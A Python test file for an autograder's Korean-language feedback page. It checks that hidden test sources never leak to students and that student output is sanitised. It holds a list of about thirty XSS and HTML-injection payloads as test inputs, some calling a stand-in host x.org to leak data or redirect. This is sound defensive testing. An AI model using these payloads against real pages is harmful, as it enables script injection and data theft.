"""What a student reads: every fact of the result, nothing of a hidden test, nothing that runs."""

from __future__ import annotations

import base64
import html
import io
import re
from datetime import datetime
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from autograder.feedback import clean
from autograder.feedback.page import page, titles
from autograder.feedback.withhold import GONE, Withhold
from autograder.publish.secrets import squeeze
from autograder.results import Check, Manual
from tests.feedback import sample
from tests.publish import small
from tests.publish.test_scan import jpeg

WITHHOLD = Withhold([squeeze(sample.HIDDEN_SOURCE)])


def made(result=None, **context) -> str:
    return page(WITHHOLD.result(result or sample.result()), sample.context(**context))


def text_of(page_html: str) -> str:
    body = page_html.split("</style>")[1]
    return " ".join(html.unescape(re.sub(r"<[^>]*>", " ", body)).split())


def test_a_page_tells_everything_a_student_needs():
    text = text_of(made(penalty=1.3, deadline=datetime.fromisoformat("2027-03-19T23:59:00+09:00")))
    for words in (
        "13 / 45점",
        "3문제 가운데 1문제 를 모두 맞혔습니다",
        "지각 감점 −1.3점",
        "글 답안 조교 채점 대기",
        "5. 시간을 거슬러 가기: 시간 역전파(BPTT) bptt",
        "✕ 0 / 25",
        "맞는 값 0.183, 나온 값 -0.042",
        "두 번째 힌트 dW_h에는 h_{t-1}이 들어갑니다",
        "세 번째 힌트",
        "공개 테스트: 통과 (3 / 3점)",
        "숨은 테스트: 통과하지 못함 (0 / 7점)",
        "△ 3 / 10",
        "시연 칸에서 고친 것은",
        "rnn의 사본 (2).ipynb",
        "2026년 11월 24일 13:05 (KST)",
        "2번째 제출",
        "8f14e45fceea (",
        "마감: 2027년 3월 19일 23:59 (KST)",
        "고쳐서 다시 낼 수 있습니다",
        "T=20에서는 0.15로 떨어졌습니다",
    ):
        assert words in text, words
    assert "[rnn:reflection]" not in text


def test_a_page_stands_alone_and_runs_nothing():
    text = made()
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', text)[1]
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'unsafe-inline'")
    assert "<script" not in text and "<link" not in text and "@import" not in text
    assert re.findall(r'(?:src|srcset)="(?!data:image/)', text) == []
    assert 'name="viewport"' in text and "prefers-color-scheme: dark" in text
    assert text == made()  # no clock, no chance


def test_the_written_question_waits_or_has_its_score_and_comment():
    graded = sample.result(manual=Manual(7.5, 10, "답"))
    text = text_of(made(graded, comment="숫자를 잘 읽었습니다.\n<b>까닭</b>을 더 쓰세요."))
    assert "7.5 / 10점" in text and "조교 채점 대기" not in text
    assert "조교의 말 숫자를 잘 읽었습니다. <b>까닭</b>을 더 쓰세요." in text


def test_all_right_leaves_nothing_to_mend():
    perfect = sample.result(score=10, max_score=10, notices=[])
    perfect.exercises = {"make_char_batches": perfect.exercises["make_char_batches"]}
    text = text_of(made(perfect))
    assert "모든 문제를 맞혔습니다. 글 답안은 조교가" in text and "고쳐서 다시" not in text


def test_a_refused_or_failed_hand_in_has_a_page_too():
    refused = sample.result(status="refused", reason="노트북이 아닙니다.", score=None, manual=None)
    refused.exercises = {}
    text = text_of(made(refused))
    assert "채점하지 못했습니다 노트북이 아닙니다." in text and "다시 올리세요" in text
    failed = sample.result(status="failed", reason="Traceback /srv/course", score=None, manual=None)
    failed.exercises = {}
    text = text_of(made(failed))
    assert "다시 낼 필요는 없습니다" in text and "Traceback" not in text


def test_a_later_refused_file_is_told_on_the_page_of_the_earlier_one():
    assert "b.pdf: 노트북이 아닙니다." in text_of(made(later=("b.pdf", "노트북이 아닙니다.")))


# Hidden tests


def test_nothing_of_a_hidden_check_is_on_the_page():
    text = made()
    for secret in (sample.HIDDEN_MESSAGE, sample.HIDDEN_SOURCE, "숨은 힌트입니다", "339"):
        assert secret not in text and html.escape(secret) not in text


SOURCE = sample.HIDDEN_SOURCE
TRICKS = {
    "printed": sample.stream(f"앞줄\n{SOURCE}\n뒷줄"),
    "among others": sample.stream(f"see: '{SOURCE}' !"),
    "spaced": sample.stream(SOURCE.replace(" ", "  ")),
    "broken in two": sample.stream(SOURCE[:25] + "\n" + SOURCE[25:]),
    "repr": sample.stream(repr("x\n" + SOURCE)),
    "raised": {"output_type": "error", "ename": "E", "evalue": SOURCE, "traceback": [SOURCE]},
    "html": sample.display(text_html=f"<p>{SOURCE.replace('squares', '<b>squares</b>')}</p>"),
    "html text": sample.display(text_html=f"<pre>{html.escape(SOURCE)}</pre>"),
    "svg": sample.display(image_svg__xml=f"<svg><text>{SOURCE}</text></svg>"),
    "beside a picture": sample.display(image_png=sample.picture(), text_plain=SOURCE),
    "in a picture": sample.display(image_png=sample.picture(SOURCE)),
    "list": {"output_type": "stream", "name": "stdout", "text": [SOURCE[:20], SOURCE[20:]]},
}


@pytest.mark.parametrize("name", TRICKS)
def test_hidden_tests_do_not_leave_through_outputs(name):
    result = sample.result()
    result.exercises["bptt"].outputs = [TRICKS[name]]
    text = made(result)
    everything = text + "".join(
        base64.b64decode(blob).decode("latin-1") for blob in re.findall(r"base64,([^\"]+)", text)
    )
    for reading in (everything, text_of(text)):
        assert squeeze(SOURCE) not in squeeze(html.unescape(reading))
    if name == "printed":
        assert "앞줄" in text and GONE in text and "뒷줄" in text


def test_hidden_tests_do_not_leave_through_messages():
    result = sample.result(
        reason=SOURCE, notices=[SOURCE], manual=Manual(None, 10, f"답\n{SOURCE}")
    )
    bptt = result.exercises["bptt"]
    bptt.reason = f"실행하다 오류가 났습니다: Exception: {SOURCE}"
    bptt.checks[0] = Check("bptt-public", "public", False, 0, 5, SOURCE, [SOURCE], SOURCE)
    assert SOURCE not in html.unescape(made(result, comment=WITHHOLD.text(SOURCE)))


def test_the_result_itself_is_not_changed():
    result = sample.result()
    WITHHOLD.result(result)
    assert result == sample.result()


# What students' code may try

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.org/a.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math href="javascript:alert(1)">x</math>',
    "<style>body { background: url(https://x.org/leak) }</style>",
    '<div style="position: fixed; inset: 0; background: url(https://x.org)">점수 100</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<embed src="x.swf"><base href="https://x.org"><link rel=stylesheet href=//x.org>',
    '<meta http-equiv="refresh" content="0;url=https://x.org">',
    '<form action="https://x.org"><input name=p><button>보내기</button></form>',
    "</pre></details></section></main><h1>100점",
    "<table><tr><td><details><summary>x",
    "<b><i><p>열린 채로",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<video autoplay src=https://x.org/a></video><audio src=//x.org></audio>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "{{ 7 * 7 }} {% include 'style.css' %}",
    "\u202e점수 001\u202c \ud800",
]  # fmt: skip
DANGEROUS = {"script", "iframe", "object", "embed", "form", "input", "base", "link", "svg", "math"}
DANGEROUS |= {"style", "template", "noscript", "textarea", "video", "audio", "button", "xmp"}


class Walk(HTMLParser):
    """Counts what the body holds."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.open: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs
        if tag not in ("br", "hr", "img", "meta", "col", "wbr"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open and self.open.pop() == tag, f"</{tag}> out of order"


def assert_harmless(text: str) -> None:
    walk = Walk()
    walk.feed(text.split("</head>", 1)[1].removesuffix("</html>"))
    walk.close()
    assert walk.open == []
    assert not DANGEROUS & set(walk.tags)
    own = {"style", "width: 29%", "margin-top: 1.5rem", "margin: .6rem 0 0", "margin-top: 0"}
    for name, value in walk.attributes:
        assert not name.startswith("on"), name
        if name == "style":
            assert value in own, value
        if name in ("src", "href"):
            assert value.startswith(("data:image/", "https://example.org", "https://colab.")), value


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_student_s_code_shows_runs_nothing_and_breaks_nothing(attack):
    result = sample.result(
        student=attack,
        file=attack,
        reason=attack,
        notices=[attack],
        manual=Manual(None, 10, attack),
    )
    bptt = result.exercises["bptt"]
    bptt.reason = attack
    bptt.checks[0].hints = [attack]
    bptt.outputs = [
        sample.stream(attack),
        sample.stream(attack, "stderr"),
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
        sample.display(text_html=attack, text_plain=attack),
        sample.display(image_svg__xml=f"<svg>{attack}</svg>"),
        sample.display(image_png=attack, image_jpeg=attack),
        sample.display(text_javascript=attack, application_json=attack),
        {"output_type": "display_data", "data": attack, "metadata": {}},
        {"output_type": attack},
    ]
    text = made(result, comment=attack, later=(attack, attack))
    assert_harmless(text)
    assert "\u202e" not in text and "\x00" not in text
    text.encode("utf-8")


def test_the_table_of_a_data_frame_stays_a_table():
    table = "<table class='dataframe'><tr><td colspan=2>3</td></tr></table>"
    assert clean.markup(f"<div><style scoped>.x {{}}</style>{table}</div>") == (
        '<div><table><tbody><tr><td colspan="2">3</td></tr></tbody></table></div>'
    )


def test_pictures_keep_the_picture_and_lose_the_rest():
    address = clean.image("image/png", sample.picture("비밀"))
    content = base64.b64decode(address.removeprefix("data:image/png;base64,"))
    assert b"IDAT" in content and b"tEXt" not in content and b"iTXt" not in content
    for kind, raw in (
        ("image/png", "PHNjcmlwdD4="),
        ("image/jpeg", sample.picture()),
        ("image/png", "%%%"),
        ("image/svg+xml", "<html><script>"),
        ("image/png", sample.picture()[: 400 // 4 * 4]),
    ):
        assert clean.image(kind, raw) is None


def test_jpegs_lose_their_metadata_too():
    raw = jpeg(comment=b"secret comment", description=b"secret exif") + b"secret behind"
    address = clean.image("image/jpeg", base64.b64encode(raw).decode())
    content = base64.b64decode(address.split(",")[1])
    assert b"secret" not in content and content.endswith(b"\xff\xd9")
    assert Image.open(io.BytesIO(content)).convert("RGB").size == (4, 4)


def test_text_reads_as_in_a_terminal():
    assert clean.text("\x1b[31m빨강\x1b[0m\x07") == "빨강"
    assert clean.text("  0%\r 50%\r100%\n끝") == "100%\n끝"
    assert clean.text("창 제목\x1b]0;속임\x07 뒤") == "창 제목 뒤"
    long = clean.text("가" * 50_000)
    assert len(long) < 10_100 and "10,000자까지만" in long


def test_very_much_output_stays_a_small_page():
    result = sample.result()
    result.exercises["bptt"].outputs = [sample.stream("x" * 1_000_000)] * 100
    assert len(made(result)) < 500_000


@given(raw=st.text(alphabet="<>/=\"' abscript&;#x\x00\n!-", max_size=120))
def test_no_text_breaks_out(raw):
    result = sample.result(file=raw)
    outputs = [sample.stream(raw), sample.display(text_html=raw, text_plain=raw)]
    result.exercises["bptt"].outputs = outputs
    assert_harmless(made(result))


def test_headings_come_from_the_lab():
    found = titles(small.notebook(small.lab_cells()))
    assert found["squares"] == "1. 제곱 더하기"
